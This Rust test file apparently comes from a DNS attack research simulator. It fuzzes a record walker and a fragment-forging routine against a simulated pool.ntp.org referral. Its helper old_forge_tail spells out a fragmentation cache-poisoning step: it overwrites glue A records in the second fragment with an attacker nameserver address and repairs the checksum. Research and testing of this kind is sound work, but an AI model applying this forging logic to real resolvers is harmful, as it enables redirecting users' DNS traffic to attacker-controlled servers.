//! The attacker's wire readers on hostile bytes: the real `pool.ntp.org`
//! referral truncated at every offset and garbled at every byte.
//! `walk_records` and `forge_tail` must never panic. `walk_records` is the
//! decoder's checked walk: it must accept exactly what `MessageView::new`
//! accepts, describe the records `Message::decode` builds (same count,
//! types and owner names), and report the spans the walker it replaced
//! reported. `forge_tail` must forge what it forged over that walker.

use std::net::Ipv4Addr;

use attack::checksum_fix::fix_fragment_sum;
use attack::forge::{first_fragment_payload, forge_tail, ForgeError};
use attack::icmp_force::FORCED_MTU;
use attack::wire_walk::{walk_records, RecordSpan, Section};
use dns::name::skip_name_at;
use dns::prelude::*;
use netsim::ipv4::IPV4_HEADER_LEN;
use netsim::udp::UDP_HEADER_LEN;
use rand::rngs::SmallRng;
use rand::SeedableRng;

const ATTACKER_NS: Ipv4Addr = Ipv4Addr::new(66, 66, 0, 1);

fn referral() -> Vec<u8> {
    let servers: Vec<Ipv4Addr> = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
    let zone = pool_zone(servers, 23, Ipv4Addr::new(198, 51, 100, 1));
    let mut server = AuthServer::new(vec![zone]);
    let query = Message::query(0x4242, "pool.ntp.org".parse().unwrap(), RecordType::A, false);
    server.answer(&query, &mut SmallRng::seed_from_u64(2020)).encode().unwrap().to_vec()
}

/// The walker `walk_records` replaced: owner names checked by
/// `skip_name_at`, fixed fields and RDATA bounds checked, RDATA contents
/// not.
fn old_walk_records(dns_bytes: &[u8]) -> Result<Vec<RecordSpan>, DnsError> {
    if dns_bytes.len() < 12 {
        return Err(DnsError::Truncated { context: "header" });
    }
    let count = |at: usize| u16::from_be_bytes([dns_bytes[at], dns_bytes[at + 1]]);
    let mut pos = 12usize;
    for _ in 0..count(4) {
        pos = skip_name_at(dns_bytes, pos)?;
        pos += 4; // qtype + qclass
    }
    let mut spans = Vec::new();
    let sections = [
        (Section::Answer, count(6)),
        (Section::Authority, count(8)),
        (Section::Additional, count(10)),
    ];
    for (section, count) in sections {
        for _ in 0..count {
            let record_offset = pos;
            pos = skip_name_at(dns_bytes, pos)?;
            if pos + 10 > dns_bytes.len() {
                return Err(DnsError::Truncated { context: "record fixed fields" });
            }
            let rtype =
                RecordType::from_code(u16::from_be_bytes([dns_bytes[pos], dns_bytes[pos + 1]]));
            let ttl_offset = pos + 4;
            let rdata_len =
                usize::from(u16::from_be_bytes([dns_bytes[pos + 8], dns_bytes[pos + 9]]));
            let rdata_offset = pos + 10;
            if rdata_offset + rdata_len > dns_bytes.len() {
                return Err(DnsError::Truncated { context: "rdata" });
            }
            pos = rdata_offset + rdata_len;
            spans.push(RecordSpan {
                rtype,
                section,
                record_offset,
                ttl_offset,
                rdata_offset,
                rdata_len,
            });
        }
    }
    Ok(spans)
}

/// A forged tail as plain values: split, payload, poisoned names, slack.
type Forged = (usize, Vec<u8>, Vec<Name>, Option<Name>);

/// `forge_tail` as it was over [`old_walk_records`]: walk, pick the glue
/// in the second fragment, redirect all but the slack, fix the sum.
fn old_forge_tail(
    observed_dns: &[u8],
    mtu: u16,
    attacker_ns: Ipv4Addr,
) -> Result<Forged, ForgeError> {
    let udp_len = UDP_HEADER_LEN + observed_dns.len();
    let split = first_fragment_payload(mtu);
    if udp_len <= split {
        return Err(ForgeError::ResponseTooSmall { len: udp_len + IPV4_HEADER_LEN, mtu });
    }
    let spans = old_walk_records(observed_dns).map_err(|_| ForgeError::Malformed)?;
    let tail_start = split - UDP_HEADER_LEN;
    let is_target = |s: &&RecordSpan| {
        s.is_glue()
            && s.rdata_len == 4
            && s.rdata_offset >= tail_start
            && s.rdata_offset + s.rdata_len <= observed_dns.len()
    };
    if spans.iter().filter(is_target).count() == 0 {
        return Err(ForgeError::NoGlueInTail);
    }
    let slack = spans
        .iter()
        .rev()
        .filter(is_target)
        .find(|s| (s.rdata_offset + UDP_HEADER_LEN).is_multiple_of(2))
        .ok_or(ForgeError::NoSlackCandidate)?;
    let original_tail = &observed_dns[tail_start..];
    let mut modified_tail = original_tail.to_vec();
    let mut poisoned = Vec::new();
    for span in spans.iter().filter(is_target) {
        if span.rdata_offset == slack.rdata_offset {
            continue;
        }
        let at = span.rdata_offset - tail_start;
        modified_tail[at..at + 4].copy_from_slice(&attacker_ns.octets());
        poisoned.push(span.name(observed_dns).map_err(|_| ForgeError::Malformed)?);
    }
    let slack_in_tail = slack.rdata_offset - tail_start;
    modified_tail[slack_in_tail..slack_in_tail + 4].fill(0);
    fix_fragment_sum(original_tail, &mut modified_tail, slack_in_tail)?;
    let slack_name = Some(slack.name(observed_dns).map_err(|_| ForgeError::Malformed)?);
    Ok((split, modified_tail, poisoned, slack_name))
}

fn check(bytes: &[u8], what: &str) {
    let forged = forge_tail(bytes, FORCED_MTU, ATTACKER_NS);
    let walked = walk_records(bytes);
    let viewed = MessageView::new(bytes);
    assert_eq!(
        walked.is_ok(),
        viewed.is_ok(),
        "{what}: the walk must accept what the view accepts"
    );
    let Ok(spans) = walked else {
        assert!(forged.is_err(), "{what}: forged from bytes the walk rejects");
        return;
    };
    let old = old_walk_records(bytes).unwrap_or_else(|e| panic!("{what}: old walk failed: {e:?}"));
    assert_eq!(spans, old, "{what}: spans");
    let forged = forged.map(|t| (t.split, t.payload.to_vec(), t.poisoned_names, t.slack_name));
    assert_eq!(forged, old_forge_tail(bytes, FORCED_MTU, ATTACKER_NS), "{what}: forged tail");
    let msg =
        Message::decode(bytes).unwrap_or_else(|e| panic!("{what}: walked, not decoded: {e:?}"));
    let records: Vec<&Record> =
        msg.answers.iter().chain(&msg.authorities).chain(&msg.additionals).collect();
    assert_eq!(spans.len(), records.len(), "{what}: record count");
    for (span, record) in spans.iter().zip(records) {
        assert_eq!(span.rtype, record.rtype(), "{what}: type at {}", span.record_offset);
        assert_eq!(span.name(bytes).as_ref(), Ok(&record.name), "{what}: owner");
    }
}

#[test]
fn intact_referral_is_forged_from_its_glue() {
    let wire = referral();
    check(&wire, "intact");
    let tail = forge_tail(&wire, FORCED_MTU, ATTACKER_NS).unwrap();
    let old = old_forge_tail(&wire, FORCED_MTU, ATTACKER_NS).unwrap();
    assert_eq!((tail.split, tail.payload.to_vec()), (old.0, old.1), "the forged fragment");
    assert_eq!((&tail.poisoned_names, &tail.slack_name), (&old.2, &old.3), "the forged names");
    let msg = Message::decode(&wire).unwrap();
    let glue: Vec<&Name> = msg.additionals.iter().map(|r| &r.name).collect();
    assert!(tail.poisoned_names.len() >= 20);
    assert!(tail.poisoned_names.iter().all(|n| glue.contains(&n)));
    assert!(!tail.poisoned_names.contains(tail.slack_name.as_ref().unwrap()));
}

#[test]
fn forward_pointer_owner_is_rejected() {
    let mut wire = referral();
    let first = walk_records(&wire).unwrap()[0].record_offset;
    assert_eq!(wire[first] & 0xC0, 0xC0, "the first owner name is a compression pointer");
    // Point it at the bytes just after itself: a forward pointer.
    let target = u16::try_from(first + 2).unwrap();
    wire[first..first + 2].copy_from_slice(&(0xC000 | target).to_be_bytes());
    assert!(Message::decode(&wire).is_err());
    assert!(walk_records(&wire).is_err(), "the walk must reject what the decoder rejects");
}

#[test]
fn referral_truncated_at_every_offset() {
    let wire = referral();
    for cut in 0..=wire.len() {
        check(&wire[..cut], &format!("cut at {cut}"));
    }
}

#[test]
fn referral_garbled_at_every_byte() {
    let wire = referral();
    for at in 0..wire.len() {
        let original = wire[at];
        for value in [0x00, 0xFF, 0xC0, 0x3F, 0x40, original ^ 0x20, original.wrapping_add(1)] {
            let mut garbled = wire.clone();
            garbled[at] = value;
            check(&garbled, &format!("byte {at} set to {value:#04x}"));
        }
    }
}
